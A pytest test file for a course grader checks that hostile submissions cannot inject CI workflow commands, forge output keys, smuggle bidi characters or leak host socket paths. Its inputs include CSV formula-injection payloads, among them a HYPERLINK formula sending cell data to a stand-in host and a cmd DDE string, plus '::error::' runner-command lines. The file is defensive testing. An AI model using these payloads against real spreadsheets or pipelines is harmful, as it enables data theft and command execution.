"""Readers that must not be fooled by what a run writes: a CI log that runs workflow commands, the
reporter's `$GITHUB_OUTPUT`, spreadsheets that run formulas, reports whose text bidi controls
reorder, and a run reading /proc/net/unix for the host's paths. Each through the real `grade`
command, on hostile submissions that never import MindNLP (a few seconds each)."""

from __future__ import annotations

import base64
import csv
import json
import re
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from grader.outputs import classroom, gradebook
from grader.outputs.wording import UNPRINTABLE, log_line, plain
from grader.scoring import rubric
from tests.commands.batch_helpers import batch_env
from tests.helpers import MRPC_DIR, SUBMISSIONS

HOSTILE = SUBMISSIONS / "hostile"
LONG = "Ada-Lovelace-" * 12  # a temporary folder far longer than a socket address may be
ENTRY = "::error::pwned.py"
COMMAND_LINE = re.compile(r"^\s*::|^RUNNER=")  # what the runner would act on at a line's start
DANGEROUS = ("\u202e", "\U000e0041")  # a right-to-left override, an invisible tag character


def grade_cli(source: Path, out: Path, tmp: Path, **env: str) -> subprocess.CompletedProcess:
    """`grade SOURCE --profile tiny --out OUT` in a process of its own, as a CI step runs it."""
    tmp.mkdir(parents=True, exist_ok=True)
    environ = batch_env() | {"GRADER_MRPC_DIR": str(MRPC_DIR), "TMPDIR": str(tmp)} | env
    command = [sys.executable, "-m", "grader.cli", str(source), "--profile", "tiny", "--out", str(out)]
    return subprocess.run(command, env=environ, capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def forged(tmp_path_factory):
    """The workflow-commands submission handed in as `::error::pwned.py`, graded once with
    $GITHUB_OUTPUT set, as in a GitHub Actions step, and a long temporary folder."""
    root = tmp_path_factory.mktemp("forged")
    folder = root / "submission"
    folder.mkdir()
    shutil.copy(HOSTILE / "workflow-commands" / "train.py", folder / ENTRY)
    github_output = root / "github_output"
    done = grade_cli(folder, root / "out", root / LONG, GITHUB_OUTPUT=str(github_output))
    return done, root / "out", github_output


def test_no_line_a_ci_runner_reads_is_the_runs(forged):
    done, out, _ = forged
    assert done.returncode == 1, done.stderr  # graded: failed, not a grader error
    printed = done.stdout + done.stderr
    assert "forged" in printed and "add-mask" in printed  # the run's text is shown, as text
    for name, text in (("stdout", done.stdout), ("stderr", done.stderr), ("result.md", (out / "result.md").read_text())):
        commands = [line for line in text.splitlines() if COMMAND_LINE.search(line)]
        assert not commands, (name, commands)
        assert "##[" not in text, name  # the legacy form counts anywhere in a line
    assert ENTRY.replace("::", ": :", 1) in done.stdout  # the file name, written inert


def test_github_output_holds_only_the_graders_keys(forged):
    done, out, github_output = forged
    expected = classroom.layout(rubric.load()).ids()
    lines = github_output.read_text().splitlines()
    assert [line.split("=", 1)[0] for line in lines] == expected
    for line in lines:
        result = json.loads(base64.b64decode(line.split("=", 1)[1]))
        for test in result["tests"]:
            assert "\n" not in test["name"] and not COMMAND_LINE.search(test["name"]) and "##[" not in test["name"]
    assert (out / "classroom-result.txt").read_text().splitlines() == lines


def test_the_evaluator_binds_and_answers_from_a_long_temporary_folder(forged):
    _, out, _ = forged
    error = json.loads((out / "evidence" / "evidence.json").read_text())["evaluation_error"]
    assert error.startswith("KeyError: 'LORA")  # PEFT, in the evaluator, refused the forged type: it answered
    assert "AF_UNIX" not in error and "evaluator" not in error


def test_bidi_and_invisible_characters_are_shown_escaped_in_every_report(forged):
    _, out, _ = forged
    for name in ("report.html", "report-instructor.html", "result.md", "junit.xml", "results.json"):
        text = (out / name).read_text()
        assert not any(ch in text for ch in DANGEROUS), name
        assert "202e" in text, name  # shown, escaped (in results.json, JSON escapes its backslash)


def test_every_invisible_format_character_but_the_joiners_is_escaped():
    format_characters = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"]
    kept = [ch for ch in format_characters if not UNPRINTABLE.fullmatch(ch)]
    assert kept == ["\u200c", "\u200d"]  # joiners: Persian, Indic scripts and emoji need them
    assert plain("a\u202eb\U000e0041\u2028") == "a\\u202eb\\U000e0041\\u2028"
    assert log_line("x\n  ::error::y\r##[warning]z") == "x\\n  ::error::y\\n# #[warning]z"
    assert log_line("  ::error::y") == "  : :error::y"


def test_a_run_sees_no_host_path_in_the_socket_table_and_long_temporary_folders_bind(tmp_path):
    """Its temporary folder (where the private area and the evaluator's folder are made) is far
    longer than a socket address may be: the probe and the evaluator still bind, and the run's
    view of /proc/net/unix names neither that folder nor anything else of the host's."""
    done = grade_cli(HOSTILE / "read-socket-table", tmp_path / "out", tmp_path / LONG)
    assert done.returncode == 1, done.stderr
    stdout = (tmp_path / "out" / "evidence" / "logs" / "stdout.txt").read_text()
    table = stdout[stdout.index("SOCKETS-BEGIN") : stdout.index("SOCKETS-END")]
    addresses = [line.split()[7] for line in table.splitlines()[2:] if len(line.split()) > 7]
    assert addresses, table  # the grader's end of the probe's connection is listed ...
    assert all(re.fullmatch(r"/proc/self/fd/\d+/probe\.sock", a) for a in addresses), addresses  # ... by a neutral name
    assert "Ada-Lovelace" not in table and str(tmp_path) not in table
    assert "probe socket: /opt/grader/control/probe.sock" in stdout
    assert list((tmp_path / "out" / "evidence" / "probe").glob("probe-*.jsonl"))  # the probe connected
    assert "AF_UNIX" not in done.stdout + done.stderr


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1"],
)
def test_a_text_cell_that_could_start_a_formula_is_led_by_a_quote(text):
    written = gradebook.cell(text)
    assert written.startswith("'") and written[1:] == plain(text)


@pytest.mark.parametrize("number", ["-2", "-2.5", "75", "+3", "1e-3", "-0"])
def test_a_number_stays_a_number_even_a_negative_one(number):
    assert gradebook.cell(number) == number and float(gradebook.cell(number)) == float(number)
    assert gradebook.cell(float(number)) == float(number)


def test_the_class_gradebook_guards_every_text_cell(tmp_path):
    students = [
        gradebook.ClassRow('=HYPERLINK("http://x")', "not graded", None, "-1+cmd|' /C calc'!A0", "@sub", {"note": "=1+1"}, "f"),
        gradebook.ClassRow("Ada", "not graded", None, "", "", {"note": "-3"}, "Ada"),
    ]
    path = gradebook.write_class(students, ["note"], tmp_path / "gradebook.csv")
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["student"] == "'" + '=HYPERLINK("http://x")' and rows[0]["problem"].startswith("'-1+cmd")
    assert rows[0]["submission"] == "'@sub" and rows[0]["note"] == "'=1+1"
    assert rows[1]["note"] == "-3" and rows[1]["folder"] == "Ada"  # a number stays one
